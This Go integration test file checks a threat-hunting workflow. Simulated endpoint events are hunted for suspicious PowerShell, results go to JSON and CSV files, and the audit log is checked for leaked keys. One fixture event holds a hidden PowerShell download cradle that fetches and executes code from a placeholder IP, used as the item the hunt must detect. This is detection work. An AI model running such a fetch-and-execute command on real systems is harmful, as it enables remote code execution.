package integration

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/s1copilot/s1copilot/config"
	"github.com/s1copilot/s1copilot/scenario"
	"github.com/s1copilot/s1copilot/tools/s1sim/simulator"
	"github.com/s1copilot/s1copilot/workflows"
)

// A hunt from question to result files on the real dev server and the simulator: the
// library translates (no model), the gate grants the turn, init-query runs, the events
// are written to S1C_HUNT_DIR and summarised, and the hunt is audited.
func TestHuntFromQuestionToFiles(t *testing.T) {
	dir := t.TempDir()
	s := newStack(t, stackOptions{
		config: func(c *config.Config) { c.HuntDir = dir },
		sim:    func(o *simulator.Options) { o.DVQueryDelay = 2 * time.Second },
	})
	// Endpoint telemetry: one download cradle, one PowerShell run that is not
	// suspicious, one unrelated process. The simulator evaluates the S1QL query.
	require.NoError(t, s.sim.AddEvents([]scenario.AgentEvent{
		{AgentID: "1900000000000000002", Event: scenario.Event{EventType: "Process Creation", Before: "1h", ProcessName: "powershell.exe", ProcessCmd: "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"}},
		{AgentID: "1900000000000000003", Event: scenario.Event{EventType: "Process Creation", Before: "2h", ProcessName: "powershell.exe", ProcessCmd: "powershell.exe -File C:\\scripts\\inventory-report.ps1"}},
		{AgentID: "1900000000000000001", Event: scenario.Event{EventType: "Process Creation", Before: "3h", ProcessName: "notepad.exe", ProcessCmd: "notepad.exe notes.txt"}},
	}))
	hunts := workflows.Hunts{Client: s.c, TaskQueue: s.cfg.Temporal.TaskQueue}
	id := workflows.NewHuntID(time.Now())
	require.NoError(t, hunts.Start(s.ctx, workflows.HuntInput{ID: id, Question: "show me endpoints with suspicious PowerShell in the last 24 hours", Actor: "it-analyst", Channel: "cli"}))

	waitUntil(t, s.ctx, "the hunt awaits confirmation", func() bool {
		st, err := hunts.Status(s.ctx, id)
		return err == nil && st.Stage == workflows.HuntAwaitingRun
	})
	st, err := hunts.Status(s.ctx, id)
	require.NoError(t, err)
	assert.Equal(t, "library", st.Translation.Translator)
	assert.Equal(t, "suspicious-powershell", st.Translation.NamedHunt)
	_, err = hunts.Confirm(s.ctx, id, workflows.HuntConfirmation{Run: true, By: "it-analyst"})
	require.NoError(t, err)

	res, err := hunts.Result(s.ctx, id)
	require.NoError(t, err)
	require.Equal(t, workflows.HuntFinished, res.Outcome, res.Reason)
	require.NotNil(t, res.Summary)
	assert.Positive(t, res.Summary.Events)
	for _, p := range []string{res.Summary.JSONPath, res.Summary.CSVPath} {
		assert.True(t, strings.HasPrefix(p, dir), p)
		b, err := os.ReadFile(p)
		require.NoError(t, err)
		assert.Contains(t, string(b), "DownloadString", "the suspicious run was found")
		assert.NotContains(t, string(b), "inventory-report.ps1", "the query filtered the benign run out")
		assert.NotContains(t, string(b), "notepad.exe")
	}
	assert.NotEmpty(t, res.FollowUps)
	assert.Contains(t, s.audit.String(), `"id":"s1-hunt/`+id+`/outcome"`)
	assert.Contains(t, s.audit.String(), `"kind":"hunt"`)
	// Replay fixtures for workflows/replay_test.go (make histories).
	s.replayWorkflowAndMaybeSave(t, workflows.HuntWorkflowID(id), "hunt-library.json")
	s.replayWorkflowAndMaybeSave(t, s.cfg.Temporal.DVGateWorkflowID(), "dv-gate.json")
}

// huntModel answers the hunting schemas: a query, then follow-ups.
func huntModel(t *testing.T) *httptest.Server {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		content := `{"query":"EventType = \"Process Creation\" AND SrcProcName ContainsCIS \"powershell\"","language":"s1ql","lookback":"24h","from":"","to":"","explanation":"PowerShell processes started in the last day."}`
		if strings.Contains(string(body), "hunt_follow_ups") {
			content = `{"follow_ups":["what did PowerShell connect to in the last 24 hours","which parents started PowerShell","encoded PowerShell in the last 7 days"]}`
		}
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(map[string]any{
			"id": "chatcmpl-1", "object": "chat.completion", "created": time.Now().Unix(), "model": "gpt-test",
			"choices": []any{map[string]any{"index": 0, "finish_reason": "stop", "message": map[string]any{"role": "assistant", "content": content}}},
		})
	}))
	t.Cleanup(srv.Close)
	return srv
}

// With a model, the model writes the query and the follow-ups; --yes skips the
// confirmation; the key appears nowhere in the audit log.
func TestHuntWithAModel(t *testing.T) {
	ms := huntModel(t)
	dir := t.TempDir()
	s := newStack(t, stackOptions{config: func(c *config.Config) {
		c.HuntDir = dir
		c.LLMBaseURL, c.LLMAPIKey, c.LLMModel = ms.URL+"/v1", modelKey, "gpt-test"
	}})
	hunts := workflows.Hunts{Client: s.c, TaskQueue: s.cfg.Temporal.TaskQueue}
	id := workflows.NewHuntID(time.Now())
	require.NoError(t, hunts.Start(s.ctx, workflows.HuntInput{ID: id, Question: "PowerShell in the last day", Actor: "it-analyst", Confirmed: true}))
	res, err := hunts.Result(s.ctx, id)
	require.NoError(t, err)
	require.Equal(t, workflows.HuntFinished, res.Outcome, res.Reason)
	assert.Equal(t, "openai:gpt-test", res.Translation.Translator)
	assert.Equal(t, []string{"what did PowerShell connect to in the last 24 hours", "which parents started PowerShell", "encoded PowerShell in the last 7 days"}, res.FollowUps)
	require.NotNil(t, res.Summary)
	assert.FileExists(t, res.Summary.CSVPath)
	assert.Contains(t, s.audit.String(), `"analyzer":"openai:gpt-test"`)
	assert.NotContains(t, s.audit.String(), modelKey)
}
